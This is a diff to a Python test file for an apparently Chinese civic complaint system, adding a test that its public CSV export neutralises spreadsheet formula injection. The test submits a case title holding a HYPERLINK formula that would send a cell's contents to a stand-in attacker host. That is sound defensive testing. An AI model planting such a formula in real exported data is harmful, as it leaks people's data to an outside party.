@@ -6,6 +6,8 @@ card number, an e-mail address and another resident's tracking code into the tex
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -158,3 +160,14 @@ def test_open311_publishes_the_area_not_the_residents_address_and_a_rounded_poin
     assert "17号" not in request["address"] and "王大爷" not in request["address"]
     assert county.village.name in request["address"]
     assert (request["lat"], request["long"]) == (40.283, 84.248)
+
+
+def test_the_open_data_csv_never_hands_excel_a_formula(county, submit):  # type: ignore[no-untyped-def]
+    # Opened in Excel, a title starting with "=" ran as a formula (a link that sends the
+    # sheet's cells away); the staff export already defused it.
+    case = submit(title='=HYPERLINK("http://evil.example/?x="&A1,"点我")')
+    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
+    response = Client().get(f"/board/{county.village.code}/cases.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    (title,) = [row[-1] for row in rows[1:] if row[0] == str(case.pk)]
+    assert title.startswith("'=HYPERLINK")
